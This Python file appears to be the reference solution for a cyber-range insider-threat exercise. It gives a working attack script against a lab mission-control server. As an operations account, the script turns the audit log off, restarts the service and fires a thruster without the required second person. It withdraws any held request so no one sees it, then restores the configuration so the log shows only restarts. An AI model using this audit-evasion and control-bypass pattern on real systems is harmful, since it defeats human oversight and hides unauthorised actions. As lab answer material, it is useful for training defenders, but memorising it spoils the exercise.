"""Reference attack for insider: run on the attacker workstation, as the student (the
insider: a flight director who also holds the mission-control server's operations account).

1. As the operations engineer (ssh ops@mission-control, ~/mission-control-ops.txt), keep
   a copy of /etc/labctl/mission-control.yaml, switch the audit trail off
   (audit_log.enabled: false) with sudoedit and restart mission control in place.
2. As the flight director (~/mission-control.txt), fire the thruster: no second person is
   needed, and nothing records the login or the command.
3. Put the configuration back as it was and restart: the trail runs again, and shows only
   a restart.

Exit status 0 when the spacecraft executed the burn, 1 when mission control held or
refused it (the two-person rule), 2 when a step failed.
"""

from __future__ import annotations

import re
import sys
from pathlib import Path

from labctl.range.missionclient import MissionControl, MissionControlError
from labctl.range.opsclient import OpsError, OpsSession

CONFIG = "/etc/labctl/mission-control.yaml"
REQUEST = Path.home() / "burn-request.txt"


def burn_ms() -> int:
    """The burn the insider wants (~/burn-request.txt)."""
    found = re.search(r"^duration_ms:\s*(\d+)", REQUEST.read_text(), re.MULTILINE)
    return int(found[1]) if found else 2000


def fire(duration_ms: int) -> int:
    mc = MissionControl.from_file()
    # What the account reads at login: the flight directors' shift note (the evidence).
    session = mc.request("POST", "/api/login", {"username": mc.username, "password": mc.password})
    for note in session.get("notes", []):
        print(f"shift note for this account: {note}")
    mc.wait_linked()
    result = mc.send("THRUSTER_FIRE", duration_ms=duration_ms)
    if result.get("status") == "pending":
        mc.reject(int(result["pending_id"]))  # withdraw it: a second person would see it
        print(f"THRUSTER_FIRE held for a second person (pending {result['pending_id']}); withdrawn")
        return 1
    print(f"THRUSTER_FIRE {duration_ms} ms: command {result.get('id')}, {result.get('status')}")
    return 0 if result.get("status") == "completed" else 1


def main() -> int:
    try:
        with OpsSession.from_file("mission-control-ops") as ops:
            original = ops.read(CONFIG)
            ops.edit(CONFIG, {"audit_log.enabled": False})
            print(ops.sudo("labctl-service", "restart").strip(), "(audit trail off)")
            try:
                outcome = fire(burn_ms())
            finally:
                ops.write(CONFIG, original)
                print(ops.sudo("labctl-service", "restart").strip(), "(configuration restored)")
    except (OpsError, MissionControlError, OSError) as exc:
        print(f"attack failed: {exc}")
        return 2
    return outcome


if __name__ == "__main__":
    sys.exit(main())
